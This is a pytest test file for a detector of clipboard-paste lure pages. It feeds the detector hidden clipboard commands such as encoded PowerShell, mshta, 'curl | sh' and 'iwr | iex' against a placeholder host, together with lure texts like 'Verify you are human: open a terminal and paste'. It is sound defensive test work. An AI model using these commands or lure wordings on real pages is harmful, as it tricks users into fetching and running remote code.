from base64 import b64encode

import pytest

from hueandcry.decode.page.commands import command_marks
from hueandcry.decode.page.document import read_document
from hueandcry.decode.page.wording import plain
from hueandcry.model.page import Mark


def marks(html: str) -> dict[str, Mark]:
    document = read_document(html)
    return {mark.kind: mark for mark in command_marks(document, plain(document.text))}


@pytest.mark.parametrize(
    "command",
    [
        "powershell -w hidden -enc AAAA", "powershell.exe -NoP -c x", "p^owersh^ell -e AAAA",
        "mshta https://x.test/a", "cmd /c start x", "iwr https://x.test/a | iex",
        "iex (irm x.test/a)", "msiexec /i https://x.test/a.msi", "certutil -f -urlcache x",
        "curl -s https://x.test/a | sh", "wget -qO- x.test | bash",
        "bash -c $(curl -fsSL x.test/a)", "echo AAAA | base64 -d | bash", "finger a@x.test | cmd",
        "osascript -e 1",
    ],
)  # fmt: skip
def test_a_command_the_reader_does_not_see_is_strong(command: str) -> None:
    hidden = marks(f"<script>navigator.clipboard.writeText('{command}')</script>")
    assert "clipboard" in hidden
    assert hidden["command"].strong
    shown = marks(
        f"<script>navigator.clipboard.writeText('{command}')</script><pre>{command}</pre>"
    )
    assert not shown["command"].strong


def test_an_encoded_command_is_read() -> None:
    encoded = b64encode(b"mshta https://x.test/a").decode()
    assert marks(f"<script>run(atob('{encoded}'))</script>")["command"].strong
    wide = b64encode("powershell -enc AAAA".encode("utf-16-le")).decode()
    assert marks(f"<script>run('{wide}')</script>")["command"].strong


@pytest.mark.parametrize(
    "words",
    [
        "Press Windows Key + R, then Ctrl + V", "Hit Win+R and paste the code",
        "Press \u2318 + Space and paste", "In the Run dialog press CTRL+V",
        "Verify you are human: open a terminal and paste",
    ],
)  # fmt: skip
def test_where_to_paste_is_strong(words: str) -> None:
    assert marks(f"<p>{words}</p>")["instructs"].strong


@pytest.mark.parametrize(
    "words", ["Open a terminal and paste this to install", "Press Win + R and type control"]
)
def test_instructions_of_honest_documents_are_not(words: str) -> None:
    found = marks(f"<p>{words}</p>").get("instructs")
    assert found is None or not found.strong


def test_powershell_as_a_word_is_no_command() -> None:
    assert marks("<script>title='Learn PowerShell today'</script>") == {}
